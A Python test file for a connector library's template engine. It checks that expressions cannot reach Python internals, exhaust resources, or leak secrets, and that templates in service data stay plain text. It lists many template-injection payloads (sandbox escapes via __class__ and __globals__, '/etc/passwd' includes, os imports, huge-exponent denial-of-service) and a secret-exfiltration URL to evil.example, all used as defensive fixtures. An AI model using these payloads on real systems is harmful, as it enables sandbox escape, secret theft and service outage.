"""Templates that would reach Python, never end, or fill the memory; and texts of strangers that would be templates."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connector_core.address import MISSING
from connector_core.exceptions import ConfigError, SpecError
from connector_core.http import Headers
from connector_core.load import load
from connector_core.template import FILTERS, Condition, Message, MissingError, PathText, Template, TemplateError, Value
from connector_core.testing import FakeTransport, respond
from tests.attacks.service import SECRETS, document, opened

LONGEST = 1_000_000
PLAIN = (str, int, float, bool, type(None), list, dict, type(MISSING))


class Host:
    """What must never be reached: an object with attributes and methods; itself, it may be passed on."""

    secret = "s3cr3t"

    def delete(self) -> str:
        return "CALLED"

    def __str__(self) -> str:
        return "CALLED"

    def __iter__(self) -> Any:
        return iter(["CALLED"])


SCOPE: dict[str, Any] = {
    "config": {"api_key": "SK", "items": ["a"]},
    "header": Headers([("X-Next", "7")]),
    "obj": Host(),
    "long": 2**4000,
    "x": "x y",
    "body": {
        "ok": False,
        "count": 3,
        "parentheses": "(" * 5000,
        "text": "x" * 100_000,
        "template": "{{ config.api_key }}{{ obj.secret }}",
        "data": [{"id": 1}, {"id": 2}],
        "format": "%0900000000d {:>900000000} {0.__class__}",
        "deep": [[[[[[[[1]]]]]]]],
    },
}
ATTACKS = [
    *("{{ obj.delete() }}", "{{ obj.secret }}", "{{ obj['secret'] }}"),
    *("{{ obj | attr('secret') }}", "{{ obj | get('secret') }}"),
    *("{{ ''.__class__ }}", "{{ ''.__class__.__mro__ }}", "{{ ''['__class__'] }}", "{{ ''|attr('__class__') }}"),
    *("{{ body.data|map('attr','__class__')|list }}", "{{ body.data|map(attribute='__class__')|list }}"),
    *("{{ ''|attr('format') }}", "{{ '{0.__class__}'.format(1) }}", "{{ ['{0.__class__}']|map('format',1)|list }}"),
    *("{{ self.__init__.__globals__ }}", "{{ cycler.__init__.__globals__ }}", "{{ lipsum.__globals__ }}", "{{ self }}"),
    *("{{ joiner }}", "{{ cycler }}", "{{ lipsum(n=9) }}", "{{ lipsum(n=200000)|length }}"),
    *("{{ loop }}", "{{ namespace }}"),
    "{{ config.update({'api_key':'x'}) }}",
    *("{{ 'a'*10**9 }}", "{{ 'a'*1000000000 }}", "{{ [1]*1000000000 }}", "{{ (1,)*400000000|int }}"),
    *("{{ 10**(10**8) }}", "{{ 10**10**8 }}", "{{ 9**9**7 }}", "{{ 5 // 0 }}", "{{ 5 / 0 }}", "{{ 5 % 0 }}"),
    *("{{ 'x'|center(10**9) }}", "{{ 'a'|center(900000000)|length }}", "{{ 'x'|indent(900000000)|length }}"),
    *("{{ '%0900000000d'|format(1) }}", "{{ '%0900000000d' % 1 }}", "{{ '{:>900000000}'.format(1) }}"),
    *("{{ range(100001)|list|length }}", "{% for a in range(9) %}{% endfor %}"),
    "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "{% set ns=namespace(x='ab') %}{% for i in range(40) %}{% set ns.x=ns.x~ns.x %}{% endfor %}{{ ns.x|length }}",
    *("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "{% include '/etc/passwd' %}", "{% import 'os' as o %}"),
    *("{{ ('a'*50000)|urlize|length }}", "{{ '<'*30000|string|striptags }}", "{{ 'aaaa'|wordwrap(1)|length }}"),
    *("{{ '" + "x" * 9000 + "' }}", "{{ " + "(" * 300 + "1" + ")" * 300 + " }}", "{{ " + "[" * 3000 + " }}"),
    *("{{ " + "not " * 1900 + "1 }}", "{{ " + "- " * 3900 + "1 }}"),
    *("{{ " + "9" * 5000 + " }}", "{{ a" + "|default" * 900 + " }}"),
    "{{ 'ab'|replace('','" + "y" * 4000 + "')|replace('','" + "y" * 3000 + "') }}",
    "{{ 'ab'|replace('b','" + "y" * 4000 + "')|replace('y','" + "y" * 3000 + "') }}",
    *("{{ 1.0|round(999999999) }}", "{{ [1]|join('x'|default('y')) }}"),
    *("{{ ''" + "|json" * 58 + " }}", "{{ ''" + "|base64" * 58 + " }}"),
    *("{{ 1" + "|json|hash" * 29 + " }}", "{{ body.parentheses|from_json }}", "{{ '" + "[" * 8000 + "'|from_json }}"),
    "{{ " + " and ".join(["body.count"] * 59) + " }}",
    "{{ " + " or ".join(["body.ok"] * 59) + " }}",
    *("{{ " + " * ".join(["99999999999999999999"] * 50) + " }}", "{{ " + " * ".join(["long"] * 50) + " }}"),
    "{{ x" + "|url|replace('%','%%%%%%%%%%%%%%%%%%%%')" * 20 + " }}",
]  # fmt: skip
MORE = [
    *("{{ obj }}", "{{ obj ~ '' }}", "{{ obj | string }}"),
    *("{{ obj | json }}", "{{ obj | length }}", "{{ obj | list }}"),
    *("{{ obj | join }}", "{{ obj | first }}", "{{ [obj] }}"),
    *("{{ {'a': obj} }}", "{{ obj + 1 }}", "{{ obj == 'CALLED' }}"),
    *("{{ 'a' in obj }}", "{{ obj['__getitem__'] }}", "{{ obj.__str__ }}", "{{ obj | get('__class__') }}"),
    *("{{ body.data | map('__class__') }}", "{{ body.data | sort('__class__') }}"),
    "{{ body.data | where('__class__', 1) }}",
    *("{{ header.__class__ }}", "{{ header._pairs }}", "{{ header.all }}"),
    *("{{ header | json }}", "{{ header.items() }}"),
    *("{{ body.format % 1 }}", "{{ body.format | format(1) }}", "{{ body.format.format(1) }}", "{{ body.format }}"),
    "{{ body.text" + " ~ body.text" * 50 + " }}",
    *("{{ " + "body.text | json | json | json }}", "{{ body.text | split('') }}"),
    "{{ body.text | replace('x', body.text) }}",
    *("{{ body.text | replace('', 'yy') }}", "{{ body.text | matches('(x+x+)+y') }}"),
    "{{ body.text | base64 | base64 | base64 | base64 }}",
    *("{{ [body.text] * 99999 }}", "{{ body.count * 10 ** 99 }}"),
    *("{{ long * long * long * long }}", "{{ long | string }}", "{{ long | json }}", "{{ -long }}", "{{ long % 7 }}"),
    *("{{ 1e308 * 10 }}", "{{ 0 / 0 }}", "{{ 1 / 0 }}", "{{ 1e400 }}", "{{ 9" + "9" * 4400 + " | int }}"),
    *("{{ '9" + "9" * 4400 + "' | int }}", "{{ '1e999999999' | float }}", "{{ '0x" + "f" * 4000 + "' | int }}"),
    *("{{ body.deep | json }}", "{{ '" + "[" * 4000 + "' | from_json }}", "{{ '\\ud800' | url }}"),
    *("{#" + "{#" * 2000, "{{" * 2000, "{%" * 2000, "{{ '" + "{{ " * 1000 + "' }}"),
    *("${{ 7 * 7 }}", "#{ 7 }", "<%= 7 %>"),
    *("{{ [].append(1) }}", "{{ {}.update }}", "{{ (lambda: 1)() }}"),
    *("{{ [x for x in [1]] }}", "{{ f'{1}' }}", "{{ `id` }}"),
    *("{{ __import__('os') }}", "{{ os.environ }}", "{{ import }}", "{{ globals() }}", "{{ eval('1') }}", "{{ x; y }}"),
]  # fmt: skip


def reaches_python(found: Any) -> bool:
    """Whether anything of an object shows, or what is found is no plain data; the scope's own objects may pass."""
    if isinstance(found, dict):
        return any(map(reaches_python, found.values()))
    if isinstance(found, list):
        return any(map(reaches_python, found))
    if isinstance(found, str):
        return any(word in found for word in ("s3cr3t", "CALLED", "<class", " object at 0x", "built-in", "<function"))
    return not isinstance(found, PLAIN) and found is not SCOPE["obj"] and found is not SCOPE["header"]


@pytest.mark.parametrize("source", [*ATTACKS, *MORE], ids=lambda source: f"{source[:60]} {len(source)}")
@pytest.mark.parametrize("field", [Template, Message, PathText, Value, Condition])
def test_attack(source, field):
    """Every attack is refused, or gives plain data that is bounded, within a second; nothing of Python is reached."""
    if field is Condition:
        source = source.removeprefix("{{").removesuffix("}}")
    started = time.process_time()
    try:
        template = field(source)
        if isinstance(template, Condition):
            found: Any = template.holds(SCOPE)
        else:
            found = template.value(SCOPE) if isinstance(template, Value) else template.text(SCOPE)
    except (TemplateError, MissingError) as refused:
        found = str(refused)
    assert time.process_time() - started < 1
    assert not reaches_python(found)
    assert len(str(found)) <= LONGEST


@pytest.mark.parametrize("source", [*ATTACKS, *MORE], ids=lambda source: f"{source[:60]} {len(source)}")
def test_attack_in_a_spec(source):
    """In a spec they end in a SpecError with a line, or in a spec that loads; never in another exception."""
    started = time.process_time()
    try:
        load(document({"params": {"q": source}}))
    except SpecError as refused:
        assert all(problem.line >= 1 for problem in refused.problems)  # noqa: PT017 - one of two outcomes
    assert time.process_time() - started < 2


# ── a grammar of attacks ──────────────────────────────────────────────────────────────────────────

NAMES = st.sampled_from(
    [
        *(
            "obj",
            "obj.secret",
            "obj['secret']",
            "obj.delete",
            "header",
            "header['X-Next']",
            "body",
            "body.text",
            "long",
        ),
        *("body.data", "body.data[0]", "body.data[-1].id", "body.format", "config", "x", "missing", "body.deep"),
        *("''", "'a'", "'{0.__class__}'", "1", "0", "-1", "1e308", "99999999999999999999", "[]", "{}", "none", "true"),
    ]
)
KEYS = st.sampled_from(
    ["secret", "delete", "__class__", "__mro__", "__init__", "__globals__", "_pairs", "items", "id", "0"]
)
CALLS = st.sampled_from(sorted(FILTERS)) | st.sampled_from(
    ["attr", "format", "map", "center", "xmlattr", "pprint", "string"]
)
ARGUMENTS = st.sampled_from(
    ["", "('secret')", "('__class__')", "(10)", "('a', 'b')", "('', body.text)", "(obj)", "(999999999)"]
)


def combined(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.one_of(
        st.builds("{}.{}".format, inner, KEYS),
        st.builds("{}['{}']".format, inner, KEYS),
        st.builds("{}[{}]".format, inner, inner),
        st.builds("({} | {}{})".format, inner, CALLS, ARGUMENTS),
        st.builds(
            "({} {} {})".format, inner, st.sampled_from(["~", "+", "-", "*", "/", "%", "==", "<", "in", "and"]), inner
        ),
        st.builds("({} if {} else {})".format, inner, inner, inner),
        st.builds("[{}, {}]".format, inner, inner),
        st.builds("{{'k': {}}}".format, inner),
        st.builds("{}({})".format, inner, inner),
        st.builds("(not {})".format, inner),
    )


@given(st.recursive(NAMES, combined, max_leaves=10), st.sampled_from([Template, Value, PathText, Message]))
def test_no_expression_reaches_python(source, field):
    """Whatever an expression is made of, it is refused or gives plain data of a bounded size, in bounded time."""
    started = time.process_time()
    try:
        made = field("{{ " + source + " }}")
        found = made.text(SCOPE) if isinstance(made, PathText) else made.value(SCOPE)
    except (TemplateError, MissingError) as refused:
        found = str(refused)
    assert time.process_time() - started < 1
    assert not reaches_python(found)
    if isinstance(found, str):
        assert len(found) <= LONGEST


# ── texts that would be templates ─────────────────────────────────────────────────────────────────

TEMPLATES = [
    "{{ secrets.token }}",
    "{{ secrets['token'] }}",
    "{% raw %}{{ secrets.token }}",
    "${secrets.token}",
    "{{ 7 * 7 }}",
]


@pytest.mark.parametrize("text", TEMPLATES)
async def test_an_answer_is_never_rendered(text):
    """A template in what a service sends stays text: in records, transforms, cursors, links, messages and outputs."""
    page = {"data": [{"id": text, "note": text}], "next": text}
    endpoint = {
        "output": None,
        "records": "body.data",
        "pagination": {"type": "cursor", "take": "body.next", "put": "query.cursor"},
        "transform": [{"type": "set", "fields": {"copy": "{{ record.note }}", "joined": "<{{ record.note }}>"}}],
    }
    transport = FakeTransport(lambda request: respond(json={"data": []} if request.query else page))
    async with opened(document(endpoint), transport) as demo:
        (record,) = [record async for record in demo.read("thing")]
    assert record == {"id": text, "note": text, "copy": text, "joined": f"<{text}>"}
    assert transport.requests[1].query == (("cursor", text),)
    assert SECRETS["token"] not in str(record) + transport.requests[1].target


@pytest.mark.parametrize("text", TEMPLATES)
async def test_a_message_is_never_rendered(text):
    """So does one in an error's message, and in what a rule makes of it."""
    endpoint = {"errors": [{"status": 400, "category": "validation", "message": "no: {{ body.m }}"}]}
    async with opened(document(endpoint), lambda _: respond(400, json={"m": text})) as demo:
        with pytest.raises(Exception, match="no: ") as told:
            await demo.call("thing")
    assert text in str(told.value)
    assert SECRETS["token"] not in str(told.value)


@pytest.mark.parametrize("text", TEMPLATES)
async def test_config_and_input_are_never_rendered(text):
    """What a user passes is a value, in a path, a parameter, a header and a body."""
    endpoint = {
        "post": "/{{ config.v }}/{{ input.v }}",
        "input": {"v": {"type": "string"}},
        "params": {"a": "{{ config.v }}", "b": "{{ input.v }}"},
        "headers": {"X-V": "{{ config.v }}"},
        "body": {"json": {"v": "{{ input.v }}"}},
    }
    transport = FakeTransport(lambda _: respond(json={}))
    spec = document(endpoint, config={"v": {"type": "string"}})
    async with opened(spec, transport, config={"v": text}) as demo:
        await demo.call("thing", {"v": text})
    (request,) = transport.requests
    assert (request.query, request.headers["X-V"], request.body) == ((("a", text), ("b", text)), text, {"v": text})
    assert SECRETS["token"] not in request.target


@pytest.mark.parametrize(
    "place",
    [
        {"get": "{{ 'https://evil.example/?k=' ~ secrets.token }}"},
        {"get": "/{{ secrets.token }}"},
        {"base_url": "{{ secrets.token }}"},
        {"base_url": "https://{{ secrets.token }}.example"},
        {"base_url": "https://api.example/{{ secrets.token }}"},
    ],
    ids=lambda place: next(iter(place.values())),
)
def test_a_secret_in_an_address(place):
    """No address is made of a secret: it would stand in every log on the way, and may be another host's."""
    with pytest.raises(SpecError, match=r"'secrets' cannot be read here"):
        load(document(place))


@pytest.mark.parametrize(
    "name", ["env", "os", "self", "request", "credentials", "connector", "auth", "plugins", "session"]
)
def test_no_name_but_the_declared_ones(name):
    """A template knows the names that its place has, and is told so at load where it reads another."""
    with pytest.raises(SpecError, match=rf"{name}"):
        load(document({"params": {"q": f"{{{{ {name}.token }}}}"}}))


async def test_a_secret_that_is_not_declared():
    """A spec that was given nothing has nothing: no variable of the environment is read by its name."""
    with pytest.raises((SpecError, ConfigError)):
        async with opened(document({"params": {"q": "{{ secrets.PATH }}"}}), lambda _: respond(json={})):
            pass
